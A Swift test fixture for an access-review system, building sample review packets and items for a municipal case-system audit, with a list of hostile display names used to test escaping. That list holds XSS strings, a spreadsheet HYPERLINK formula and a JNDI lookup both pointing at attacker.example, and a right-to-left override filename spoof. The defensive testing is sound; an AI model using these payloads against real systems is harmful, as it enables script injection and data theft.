import AccessModel
import Chronology
import Diagnostics
import ReviewPackets
import Testing
import Transparency

/// Packets to try things on.
enum SamplePacket {
  static func day(_ text: String) throws -> Day { try #require(Day(text)) }

  /// What somebody could choose to be called, who wants to be more than a name.
  static let hostile = [
    "</script><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' autofocus onfocus='x",
    "<!-- -->", "]]>", "&lt;b&gt;&amp;", "=HYPERLINK(\"http://attacker.example\",\"x\")",
    "+1+1", "-2", "@SUM(A1)", "\u{202E}txt.exe\u{202C}", "zero\u{200B}width", "a\u{0}b\u{7}c",
    "\u{FFFE}", "Åsa Öberg-Ünal", "𝕏 😀", "{{done}} ${x} `y`", "${jndi:ldap://attacker.example}",
  ]

  static func item(
    _ number: Int, name: String = "Bo Ek", hints: [Localized] = [], isChanged: Bool = false
  ) throws -> ReviewPacket.Item {
    ReviewPacket.Item(
      grant: GrantID(number: number),
      seen: SHA256.digest(of: Array("item \(number)".utf8)),
      holder: Localized(verbatim: "\(name) (P-\(number + 10))"), units: "Social services (U-2)",
      system: SystemID(number: number % 2 + 1), systemName: "Case system \(number % 2 + 1)",
      entitlement: try #require(EntitlementID("S-\(number % 2 + 1)/read")),
      entitlementName: "Read cases",
      description: "Sees the cases of the own unit, changes nothing",
      privilege: number % 3 == 0 ? .privileged : .ordinary, level: 2, scope: nil,
      since: try day("2025-03-01"), lastDay: number % 2 == 0 ? try day("2026-12-31") : nil,
      lastUse: nil, peers: 7, peersWithIt: 3, hints: hints,
      change: isChanged
        ? Localized(en: "new", sv: "ny") : Localized(en: "unchanged", sv: "oförändrad"),
      isChanged: isChanged, previous: number % 2 == 0 ? .keep : nil,
      previousOn: number % 2 == 0 ? try day("2025-11-03") : nil)
  }

  static func packet(
    _ items: [ReviewPacket.Item], name: String = "Siv Dahl", bulkKeepMax: Int = 3
  ) throws -> ReviewPacket {
    ReviewPacket(
      origin: "ledger.example", organisation: "Example municipality",
      review: ReviewID(number: 1), about: Localized(en: "by system", sv: "per system"),
      position: 57, shownAt: "2026-03-02 10:15", shownOn: try day("2026-03-02"),
      reviewer: PersonID(number: 3), reviewerName: name, lastDay: try day("2026-03-31"),
      onNoResponse: .suspend, grouping: .person, bulkKeepMax: bulkKeepMax, sittingMax: 200,
      items: items)
  }
}
